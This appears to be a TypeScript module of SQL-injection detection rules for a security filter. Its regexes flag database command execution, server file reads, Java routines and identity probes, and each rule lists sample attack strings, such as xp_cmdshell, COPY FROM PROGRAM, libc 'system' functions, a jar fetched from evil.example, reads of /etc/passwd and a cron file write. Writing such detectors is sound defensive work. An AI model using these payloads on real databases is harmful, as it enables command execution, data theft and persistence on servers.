import { pattern, type Rule } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import { WORD } from '../value/words.ts'

/**
 * Statements with which a database runs a program, loads a library, or reads and writes files and addresses
 * of its server. A query that a tool of reports sends has none of them, so they count in documents as well.
 */
export const databaseProgramRules: readonly Rule[] = [
  pattern(
    'sqli/program',
    /\bcopy\b[^;\n]{1,160}?\b(?:from|to)\s{1,4}program\s{0,4}['$]|\bcreate\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:aggregate\s{1,4})?function\b[^;\n]{1,200}?(?:\bsoname\s{0,4}['"]|\blanguage\s{1,4}['"]?(?:c|plpython\d?u|plperlu|plsh)\b|['"][^'"\n]{0,80}\b(?:libc|system)\b)|\bcreate\s{1,4}alias\b[^;\n]{1,120}?(?:\bas\s{1,4}(?:\$\$|'')|\bfor\s{1,4}['"]?java\.)|\b(?:install|load)\s{1,4}['"]?(?:shellfs|httpfs)\b|\bread_csv\w{0,6}\s{0,4}\(\s{0,4}['"][^'"\n|]{1,80}\||\bxp_cmdshell\b|\bsqlj\.(?:install|replace)_jar\b|\bsyscs_util\.syscs_(?:backup_database|export_\w{4,8}|set_database_property)\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.sqlServer,
      attacks: [
        "COPY x FROM PROGRAM 'id'",
        "create function sys_eval returns string soname 'x.so'",
        "CREATE OR REPLACE FUNCTION f(text) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C STRICT",
        'CREATE ALIAS RUN AS $$ String run(String c) { return c; } $$',
        "install shellfs from community; load shellfs; select * from read_csv('id |')",
        "exec xp_cmdshell 'whoami'",
        "CALL sqlj.install_jar('http://evil.example/x.jar','a.b',0)",
        "call SYSCS_UTIL.SYSCS_BACKUP_DATABASE('/tmp/x')",
      ],
      benign: [
        'create function total(a int) returns int language sql as $$ select a $$',
        'copy the file from program to program',
        'load the page',
        "copy orders to stdout with csv header delimiter '|'",
      ],
    },
  ),
  pattern(
    'sqli/server-file',
    /\b(?:load_extension|lo_export|pg_(?:ls_dir|read_binary_file|stat_file|file_write|logdir_ls)|dblink(?:_connect|_exec)?|sys_(?:eval|exec|get|set)|query_to_xml\w{0,12}|database_to_xml\w{0,12}|table_to_xml\w{0,12}|httpuritype|read2clob|hexec|file_read|file_write|openxml|bulk\s{1,4}insert\s{1,4}\w{1,40}\s{1,4}from)\s{0,4}(?:\(|')|\bfrom\s{1,4}read_(?:blob|text)\s{0,2}\(\s{0,2}'\/|\bcurrent_setting\s{0,4}\(\s{0,4}'|\bcreate\s{1,4}extension\s{1,4}(?:if\s{1,4}not\s{1,4}exists\s{1,4})?(?:dblink|plpython\w{0,4}|plperlu|adminpack|file_fdw)\b|\bdbms_(?:xslprocessor|scheduler|advisor|xmlquery|sql|utility)\s{0,2}\.\s{0,2}\w{1,40}\s{0,4}\(|\bread_(?:text|blob|csv|parquet)\w{0,6}\s{0,4}\(\s{0,4}['"](?:\/(?:etc|proc|root|home)\/|https?:)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.paren | CHAR.apostrophe | CHAR.space,
      words: WORD.sqlServer,
      attacks: [
        "load_extension('\\\\evil.example\\x')",
        "select dblink_connect('host=evil.example')",
        "database_to_xml(true,true,'')",
        "dbms_xslprocessor.read2clob('x','y')",
        "httpuritype('http://evil.example/').getclob()",
        "SELECT current_setting('is_superuser')",
        "'; CREATE EXTENSION dblink--",
        "select * from read_text('/etc/passwd')",
      ],
      benign: [
        'load extension cords (2)',
        'dblink is a module',
        "create extension 'x'",
        'the current setting (on)',
      ],
    },
  ),
  // A method of a class of Java as a routine of the database (SQL/JRT, ISO/IEC 9075-13), and a program in its
  // body. And what a database writes where the system runs or serves it.
  pattern(
    'sqli/java-routine',
    /\bcall\s{1,4}["'](?:java|javax|jdk|sun|com|org|net)\.[\w$]{2,40}\.[\w.$]{3,120}["']\s{0,2}\(|\blanguage\s{1,4}java\b[^;\n]{0,160}\bexternal\s{1,4}name\s{1,4}['"]|\bexternal\s{1,4}name\s{1,4}['"](?:classpath:)?(?:java|javax|com|org)\.[\w.:$]{3,120}['"]|\bcreate\s{1,4}(?:force\s{1,4})?(?:trigger|alias)\b[^;\n]{1,200}?\$\$\s{0,4}(?:\/\/javascript|#ruby|@groovy)|\bcreate\s{1,4}(?:or\s{1,4}replace\s{1,4})?(?:and\s{1,4}(?:compile|resolve)\s{1,4})?java\s{1,4}(?:source|class)\s{1,4}named\b|\bcopy\s{0,4}\(\s{0,4}(?:select|values|table|with)\b[^;\n]{1,200}?\)\s{0,4}to\s{1,4}'\/(?:etc|root|usr|var\/(?:www|spool))\/|^[^\n]{0,80}\bload\s{1,4}'\/[\w./-]{1,160}\.so'/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.quote | CHAR.apostrophe | CHAR.dollar,
      words: WORD.java | WORD.file,
      attacks: [
        `CALL "java.lang.System.setProperty"('a','b')`,
        "CREATE PROCEDURE P(IN S VARCHAR(9)) LANGUAGE JAVA PARAMETER STYLE JAVA EXTERNAL NAME 'x.Y.z'",
        `create function f(x varchar(9)) returns int language java external name "CLASSPATH:java.lang.Runtime.exec"`,
        'CREATE TRIGGER T BEFORE SELECT ON X AS $$//javascript\njava.lang.Runtime',
        `create or replace and compile java source named "x" as public class y`,
        "COPY (SELECT '* * * * * root id') TO '/etc/cron.d/x'",
        "load '/tmp/x.so'",
      ],
      benign: [
        'call "com.example" (now)',
        'language java, external name',
        'create trigger t before insert on orders',
        "copy (select 1) to '/tmp/t.csv'",
        "copy the file to '/etc/hosts'",
        'the call of java.lang.System.setProperty("a","b")',
      ],
    },
  ),
  // A table is asked for, and what follows it holds for every row.
  pattern('sqli/where-always', /^\s{0,4}[\w.`]{1,60}\s{1,4}where\s{1,4}\(?(\d{1,4})\s{0,2}=\s{0,2}\1\b/, {
    score: 5,
    atStart: true,
    chars: CHAR.equals,
    words: WORD.sqlVerb,
    places: ['path', 'query', 'form', 'cookie'],
    attacks: ['users where 1=1', 'a.b where (1=1)'],
    benign: ['1=1', 'users where id=1', 'and where 1=2'],
  }),
  // What tells an intruder who he is to the database, as the whole value.
  pattern(
    'sqli/whoami',
    /^\s{0,4}(?:user|version|database|system_user|session_user|current_user|current_database|sqlite_version)\s{0,2}\(\s{0,2}\)\s{0,4}$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.paren,
      words: WORD.sqlName,
      places: ['path', 'query', 'form', 'cookie', 'header'],
      attacks: ['version()', 'user()', 'current_database()'],
      benign: ['now()', 'uuid()', 'user(1)', 'call version() first'],
    },
  ),
]
